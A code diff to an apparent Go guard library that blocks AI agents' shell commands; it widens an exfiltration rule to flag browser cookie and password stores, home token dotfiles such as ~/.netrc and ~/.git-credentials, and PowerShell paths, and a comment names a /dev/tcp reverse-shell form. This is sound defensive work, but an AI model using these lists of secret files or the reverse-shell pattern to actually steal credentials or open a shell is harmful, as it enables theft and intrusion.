@@ -5,6 +5,7 @@ import (
 	"strings"
 
 	"github.com/agenthooks/agenthooks/guard/shell"
+	"github.com/agenthooks/agenthooks/guard/winshell"
 )
 
 // RuleExfiltration denies a command that reads credentials or secrets and sends data off the
@@ -41,11 +42,40 @@ func isSecretFile(p string) bool {
 		base == "service-account.json" || base == ".htpasswd" || base == "id_rsa" || base == "id_ed25519" || base == "id_ecdsa":
 		return true
 	}
+	return browserSecret(p)
+}
+
+// browserSecret reports whether p is a browser profile's store of cookies, saved passwords or
+// the key that opens them (Chrome and its kin, Firefox, Safari).
+func browserSecret(p string) bool {
+	switch path.Base(p) {
+	case "Cookies", "Login Data", "Login Data For Account", "Web Data", "Local State",
+		"cookies.sqlite", "logins.json", "key4.db", "key3.db", "Cookies.binarycookies":
+	default:
+		return false
+	}
+	l := strings.ToLower(p)
+	for _, b := range [...]string{"chrom", "brave", "edge", "vivaldi", "opera", "firefox", "mozilla", "safari", "librewolf", "arc/"} {
+		if strings.Contains(l, b) {
+			return true
+		}
+	}
 	return false
 }
 
 // exfiltration finds a command line that both reads a secret and sends data away.
 func (pr *protector) exfiltration(s *shell.Script) (Match, bool) {
+	// what leaves the machine as text (a token variable, a command's output) and what the
+	// line sends or unpacks as a whole (the repository, an archive over home)
+	if m, ok := pr.secretValueSent(s); ok {
+		return m, true
+	}
+	if m, ok := pr.repositorySent(s); ok {
+		return m, true
+	}
+	if m, ok := pr.downloadUnpacked(s); ok {
+		return m, true
+	}
 	var secret, sender string
 	var pos shell.Pos
 	// The first sender, then the first secret read: nothing leaves without a sender, so the
@@ -179,6 +209,7 @@ func (pr *protector) secretPath(v, cwd string) string {
 	if v == "" || strings.HasPrefix(v, "-") {
 		return ""
 	}
+	v = winshell.PosixHome(v, pr.ctx.Home) // $env:USERPROFILE\.aws\credentials from PowerShell
 	abs, ok := absolute(v, cwd)
 	if !ok {
 		abs = v
@@ -195,10 +226,24 @@ func (pr *protector) secretPath(v, cwd string) string {
 			return p.What
 		}
 	}
-	if isSecretFile(abs) {
+	if isSecretFile(abs) || pr.homeTokenFile(abs) {
 		return path.Base(abs)
 	}
 	return ""
+}
+
+// homeTokenFile reports whether p is a tool's own dotfile of tokens and passwords in the home
+// folder (~/.npmrc, ~/.pypirc, ~/.netrc, ~/.git-credentials, ~/.pgpass); a project's .npmrc
+// names its registries and is committed with it.
+func (pr *protector) homeTokenFile(p string) bool {
+	if pr.ctx.Home == "" || path.Dir(p) != path.Clean(pr.ctx.Home) {
+		return false
+	}
+	switch path.Base(p) {
+	case ".npmrc", ".pypirc", ".netrc", "_netrc", ".git-credentials", ".pgpass", ".my.cnf":
+		return true
+	}
+	return false
 }
 
 // RuleReverseShell denies a shell connected to another machine: bash -i >& /dev/tcp/HOST/PORT,
